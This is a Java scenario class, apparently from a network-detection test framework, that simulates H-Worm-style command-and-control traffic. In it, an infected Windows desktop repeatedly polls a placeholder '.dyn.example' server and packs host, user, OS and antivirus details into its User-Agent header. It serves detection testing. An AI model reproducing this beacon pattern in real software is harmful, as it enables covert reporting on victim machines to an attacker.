package wolfhound.scenarios;

import wolfhound.model.Behaviour;
import wolfhound.scenarios.stage.Actor;
import wolfhound.scenarios.stage.Answer;
import wolfhound.scenarios.stage.Ask;
import wolfhound.scenarios.stage.Platform;
import wolfhound.scenarios.stage.Stage;
import wolfhound.scenarios.stage.Web;

/// A worm of scripts that puts the whole inventory where a program says its name, between rare
/// marks, and asks every few seconds whether there is an order (published grammar of H-Worm and its
/// heirs).
final class ScriptWorm extends Guilty {
    ScriptWorm() {
        super(
                "script-worm",
                "H-Worm",
                "A desktop asks for orders and says in its program's name who sits at which machine",
                "A name that is an inventory is nobody's name");
    }

    @Override
    public void stage(Stage stage) {
        Actor desktop = stage.workstation("desktop", Platform.WINDOWS);
        desktop.joins().isInfected(Behaviour.CALLBACK).pauses(4);
        String server = stage.word(8) + ".dyn.example";
        String mark = stage.oneOf("<|>", "|", "\\");
        String agent =
                String.join(
                        mark,
                        stage.word(5) + "_" + stage.hex(8).toUpperCase(java.util.Locale.ROOT),
                        desktop.machine().hostName(),
                        desktop.machine().userName(),
                        "Microsoft Windows 7 Professional",
                        "plus",
                        "Windows Defender",
                        "false - 4/3/2024");
        int asked = stage.between(6, 12);
        for (int i = 0; i < asked; i++) {
            Ask ask =
                    Ask.post("/is-ready", new byte[0])
                            .with("Accept: */*", "Accept-Language: en-us", "User-Agent: " + agent)
                            .with("Accept-Encoding: gzip, deflate", "Host", "Content-Length")
                            .with("Connection: Keep-Alive", "Cache-Control: no-cache");
            Web.to(desktop, server).asks(ask, Answer.ok("text/html", "")).closes();
            desktop.pauses(5);
        }
    }
}
